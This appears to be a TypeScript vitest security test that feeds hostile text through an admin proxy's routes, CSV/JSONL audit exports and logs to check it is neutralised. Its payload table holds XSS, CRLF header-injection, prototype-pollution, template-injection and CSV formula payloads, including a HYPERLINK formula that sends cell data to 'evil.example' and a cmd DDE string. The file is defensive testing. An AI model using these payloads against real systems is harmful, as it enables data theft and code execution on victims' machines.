import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { exportAudit } from '#contract/audit.ts';
import { reasonHeader } from '#contract/route.ts';
import { setUserBlocked } from '#contract/user-routes.ts';
import { createSqliteAudit, openSqliteStore } from '#proxy/audit/sqlite-audit.ts';
import { verifyChains } from '#proxy/audit/verify-chain.ts';
import type { PolicyInput } from '#proxy/policy/policy.ts';
import { deviceKey, refreshToken, session } from '../../support/access.ts';
import { attackTally } from '../../support/attack-tally.ts';
import { everyRoute } from '../../support/every-route.ts';
import { startAdding } from '../../support/people-adding.ts';

const tally = attackTally(
  'Hostile text',
  'break out of an answer, a header, an export or a log by what stands in a profile, a device or a log entry',
);

/** What people, directories and sign-up forms may write where a name is asked for. */
const texts: Record<string, string> = {
  'control characters': 'a\u0000b\u0007c\u001b[31md\u0085e\u007f',
  'line ends': 'a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>',
  'line separators': 'a\u2028b\u2029c',
  'bidi marks': '\u202egpj.exe\u2066 \u200f\u200b\ufeff',
  HTML: '"><img src=x onerror=alert(1)><script>alert(1)</script><!--',
  'a script address': 'javascript:alert(document.domain)',
  'a formula': '=HYPERLINK("https://evil.example?"&A1,"click")',
  'a formula after blanks': " \t\u00a0@SUM(1+1)*cmd|' /C calc'!A0",
  'a wide formula': '＝1+1',
  'a formula behind a separator': 'Mo;=HYPERLINK("https://evil.example")',
  'a formula behind a tab': 'Mo\t+1+1',
  'a formula on a line of its own': 'Mo\n-1+cmd|x',
  'a closing quote': 'a","b\r\n"=1+1',
  'half a character': 'a\ud800b\udc00',
  JSON: '"},"blocked":false,"x":{"y":"',
  'a template': '{{constructor.constructor("alert(1)")()}} #{7*7} %s %n',
  'a key of the prototype': '__proto__',
  'a very long word': 'x'.repeat(5_000),
};

let folder = '';
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'hostile-text-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

const policy: PolicyInput = {
  fields: (['one', 'two'] as const).map((name) => ({
    name,
    label: name,
    path: `${name === 'one' ? 'app' : 'user'}_metadata.${name}`,
    shows: ['list', 'detail', 'edit'] as const,
  })),
};

/** A member in all of whom the text stands, and an admin of that name. */
async function world(text: string) {
  const audit = createSqliteAudit(join(folder, 'audit.db'));
  const entry = { log_id: '1', date: '2026-09-30T10:00:00.000Z', type: 's', user_agent: text, ip: text };
  const acting = await startAdding({
    audit,
    policy,
    async between(request, pass) {
      if (!/\/users\/[^/]+\/logs$/.test(new URL(request.url).pathname)) return pass(request);
      const more = {
        client_name: text,
        description: text,
        location_info: { city_name: text, country_code: text },
      };
      return Response.json([{ ...entry, ...more, user_id: member.user_id }]);
    },
  });
  const named = { name: text, given_name: text, family_name: text, nickname: text, picture: text };
  const metadata = Object.fromEntries([...['one', 'two', '__proto__', text].map((name) => [name, text])]);
  const id = 'auth0|00000000000000000000000a';
  const device = { initial_user_agent: text, last_user_agent: text, initial_ip: text, last_ip: text };
  const member = acting.addPerson({
    profile: {
      user_id: id,
      ...named,
      username: text,
      email: 'mo@acme.example',
      app_metadata: { ...metadata, organization: 'Acme' },
      user_metadata: metadata,
    },
    record: {
      sessions: [{ ...session(id, 's1'), device }],
      refreshTokens: [{ ...refreshToken(id, 't1'), device }],
      deviceCredentials: [{ ...deviceKey(id, 'd1'), device_name: text }],
      bruteForceBlocks: [{ identifier: text, ip: text }],
      authenticationMethods: [{ id: 'totp|1', type: 'totp', confirmed: true, name: text }],
    },
  });
  const admin = await acting.as(
    acting.addPerson({ memberOf: 'Acme', role: 'administrator', profile: named }),
  );
  return { ...acting, audit, member, admin };
}

/** What is wrong with an answer as such. */
async function faultsOf(response: Response, type: string, text: string): Promise<string[]> {
  const body = await response.arrayBuffer();
  const headers = [...response.headers].map(([, value]) => value);
  const plain = new TextDecoder('utf-8', { fatal: true }).decode(body);
  return [
    ...(response.ok ? [] : [`${response.status}`]),
    ...(response.headers.get('content-type') === type ? [] : [String(response.headers.get('content-type'))]),
    ...(response.headers.get('x-content-type-options') === 'nosniff' ? [] : ['may be sniffed']),
    ...(headers.some((value) => value.includes(text)) ? ['in a header'] : []),
    ...(type === 'application/json' ? faultsOfJson(plain) : []),
  ];
}

function faultsOfJson(text: string): string[] {
  const value: unknown = JSON.parse(text);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these may not stand in JSON.
  const isRaw = /[\u0000-\u001f]/.test(text);
  const isPolluted = Object.keys(Object.getPrototypeOf({})).length > 0;
  return [
    ...(isRaw ? ['raw control characters'] : []),
    ...(isPolluted || value === null ? ['pollutes'] : []),
  ];
}

it.each(Object.entries(texts))('keeps %s where it stands', async (name, text) => {
  const here = await world(text);
  const { admin, member, lines, audit } = here;
  const params = { userId: member.user_id };
  const note = (where: string, faults: string[]) => {
    tally.attempt(faults.length > 0 ? `${name} in ${where}: ${faults}` : null);
    expect.soft(faults, `${name} in ${where}`).toEqual([]);
  };

  for (const { route, path, init } of everyRoute(member.user_id).filter((request) =>
    isRead(request.route.name, request.init),
  ))
    if (!route.media)
      note(route.name, await faultsOf(await admin.send(path, init), 'application/json', text));
  const headers = {
    [reasonHeader]: encodeURIComponent(text.toWellFormed().slice(0, 100)),
    'user-agent': 'Mo;=1+1',
  };
  const blocked = await admin.call(setUserBlocked, { params, body: { blocked: true } }, { headers });
  note('an act', await faultsOf(blocked, 'application/json', text));

  const csv = await admin.call(exportAudit, { query: { format: 'csv' } });
  const table = await csv.clone().text();
  note('a table', await faultsOf(csv, 'text/csv; charset=utf-8', text));
  for (const separator of [',', ';', '\t'])
    note(`a table read by ${JSON.stringify(separator)}`, cellsOf(table, separator).filter(isFormula));
  const jsonl = await admin.call(exportAudit, { query: { format: 'jsonl' } });
  const objects = (await jsonl.clone().text()).trimEnd().split('\n');
  note(
    'lines of JSON',
    objects.filter((line) => typeof JSON.parse(line) !== 'object'),
  );
  note('lines of JSON', await faultsOf(jsonl, 'application/jsonl; charset=utf-8', text));

  const log = lines.map((line) => JSON.stringify(line));
  note(
    'the log',
    log.filter((line) => line.includes('\n') || line.includes(JSON.stringify(text).slice(1, -1))),
  );
  const store = openSqliteStore(join(folder, 'audit.db'), { readOnly: true });
  for await (const { fault } of verifyChains(store))
    note('the chain of the audit log', fault ? [fault.kind] : []);
  await store.close();
  await audit.close();
});

function isRead(name: string, { method }: RequestInit): boolean {
  return method === 'GET' && name !== 'previewLink' ? true : name === 'exportData';
}

/** The cells of a table as a spreadsheet would read it: only at the beginning of a cell a quote is one. */
function cellsOf(text: string, separator: string): string[] {
  const cells = [''];
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at] ?? '';
    const cell = cells.at(-1) ?? '';
    if (isQuoted && letter === '"' && text[at + 1] === '"') {
      cells[cells.length - 1] = `${cell}"`;
      at += 1;
    } else if (isQuoted && letter === '"') isQuoted = false;
    else if (!isQuoted && cell === '' && letter === '"') isQuoted = true;
    else if (!isQuoted && (letter === separator || letter === '\n' || letter === '\r')) cells.push('');
    else cells[cells.length - 1] = cell + letter;
  }
  return cells;
}

function isFormula(cell: string): boolean {
  return /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/.test(cell);
}
